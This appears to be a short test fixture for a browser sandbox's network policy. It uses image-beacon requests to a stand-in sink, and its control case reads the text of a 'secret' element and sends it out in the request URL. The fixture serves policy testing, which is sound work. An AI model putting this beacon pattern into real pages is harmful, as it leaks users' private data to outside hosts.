//! guest = "app"
//! promise = "app-network"
//! policy = { resources = { inlineScripts = true } }
(async () => { new Image().src = SINK + "/x"; })().catch(() => {});
setTimeout(end, 250);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
